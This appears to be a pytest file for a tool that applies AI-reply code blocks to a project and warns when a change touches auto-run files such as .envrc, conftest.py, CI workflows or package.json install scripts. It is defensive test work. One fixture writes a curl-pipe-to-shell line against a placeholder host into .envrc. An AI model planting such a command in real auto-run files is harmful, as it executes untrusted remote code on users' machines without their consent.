"""A reply that changes a file other tools run without asking is applied, and the report marks it (issue 18).

`.envrc` runs when the user enters the folder, `conftest.py` at the next
pytest, a `package.json` script at `npm install`: the report says so, in plain
lines, in rich's table and in `--json`, so the user looks before running anything.
"""

from __future__ import annotations

import io
import json
from pathlib import Path

import pytest
from cli_process import kopipasta

PACKAGE = '{\n  "name": "x",\n  "scripts": {\n    "test": "vitest"\n  },\n  "dependencies": {\n    "a": "1"\n  }\n}\n'


def _project(root: Path) -> Path:
    root.mkdir()
    (root / "package.json").write_text(PACKAGE, encoding="utf-8")
    (root / "app.py").write_text("x = 1\n", encoding="utf-8")
    return root


FLAGGED = [
    (".envrc", "```bash\n# FILE: .envrc\ncurl https://example.invalid | sh\n```\n", "direnv runs it when you enter its folder"),
    (".vscode/tasks.json", '```json\n// FILE: .vscode/tasks.json\n{"version": "2.0.0", "tasks": []}\n```\n', "VS Code runs its tasks"),
    (".vscode/launch.json", '```json\n// FILE: .vscode/launch.json\n{"configurations": []}\n```\n', "VS Code runs it when you start debugging"),
    (".github/workflows/ci.yml", "```yaml\n# FILE: .github/workflows/ci.yml\non: push\n```\n", "GitHub Actions runs it on the next push"),
    (".husky/pre-commit", "```sh\n# FILE: .husky/pre-commit\nnpm test\n```\n", "git runs it through husky's hooks"),
    ("tests/conftest.py", "```python\n# FILE: tests/conftest.py\nimport os\n```\n", "pytest runs it at the next test run"),
    ("Makefile", "```make\n# FILE: Makefile\nall:\n\techo hi\n```\n", "make runs it"),
    (
        "package.json",
        '```json\n// FILE: package.json\n// TARGET_PATH: scripts.postinstall\n"node x.js"\n```\n',
        "npm runs its scripts, `install` hooks on `npm install`",
    ),
]


@pytest.mark.parametrize(("path", "reply", "why"), FLAGGED, ids=[f[0] for f in FLAGGED])
def test_a_file_another_tool_runs_is_applied_and_marked(tmp_path: Path, path: str, reply: str, why: str) -> None:
    root = _project(tmp_path / "project")
    (tmp_path / "reply.md").write_text(reply, encoding="utf-8")
    applied = kopipasta("apply", str(tmp_path / "reply.md"), "--json", cwd=root)
    assert applied.returncode == 0, applied.stdout
    report = json.loads(applied.stdout)
    assert report["runs_without_asking"] == [{"file": path, "why": why}]
    assert [b["runs_without_asking"] for b in report["blocks"]] == [True]
    assert (root / path).is_file()


@pytest.mark.parametrize(
    "reply",
    [
        '```json\n// FILE: package.json\n// TARGET_PATH: dependencies.a\n"2"\n```\n',
        "```python\n# FILE: app.py\nx = 2\n```\n",
        "```python\n# FILE: src/conftest_helpers.py\nx = 2\n```\n",
    ],
    ids=["package-json-dependency", "plain-code", "a-name-like-conftest"],
)
def test_other_changes_are_not_marked(tmp_path: Path, reply: str) -> None:
    root = _project(tmp_path / "project")
    (tmp_path / "reply.md").write_text(reply, encoding="utf-8")
    applied = kopipasta("apply", str(tmp_path / "reply.md"), "--json", cwd=root)
    assert applied.returncode == 0, applied.stdout
    report = json.loads(applied.stdout)
    assert report["runs_without_asking"] == []
    assert [b["runs_without_asking"] for b in report["blocks"]] == [False]


TWO = FLAGGED[0][1] + "\n" + FLAGGED[-1][1] + "\n```python\n# FILE: app.py\nx = 2\n```\n"
ENVRC_LINE = (
    "⚠ Look before running anything: this reply {verb} .envrc, which runs without asking "
    "(direnv runs it when you enter its folder)"
)


def test_plain_report_says_look_before_running(tmp_path: Path) -> None:
    root = _project(tmp_path / "project")
    (tmp_path / "reply.md").write_text(TWO, encoding="utf-8")
    dry = kopipasta("apply", str(tmp_path / "reply.md"), "--dry-run", cwd=root)
    assert ENVRC_LINE.format(verb="would change") in dry.stdout.splitlines()
    applied = kopipasta("apply", str(tmp_path / "reply.md"), cwd=root)
    assert applied.returncode == 0
    lines = applied.stdout.splitlines()
    assert ENVRC_LINE.format(verb="changed") in lines
    assert (
        "⚠ Look before running anything: this reply changed package.json, which runs without asking "
        "(npm runs its scripts, `install` hooks on `npm install`)"
    ) in lines
    assert sum(line.startswith("⚠ Look before running anything") for line in lines) == 2


def test_rich_report_says_look_before_running(tmp_path: Path) -> None:
    from kopipasta.engine import apply_reply
    from kopipasta.plain import visible_console_class
    from kopipasta.report import print_report

    root = _project(tmp_path / "project")
    report = apply_reply(TWO, root)
    buffer = io.StringIO()
    console = visible_console_class()(file=buffer, force_terminal=True, width=250, highlight=False)
    print_report(console, report, dry_run=False, show_diff=False)
    output = buffer.getvalue()
    assert "\x1b[" in output  # rich, coloured
    assert ENVRC_LINE.format(verb="changed") in output
    assert output.count("Look before running anything") == 2
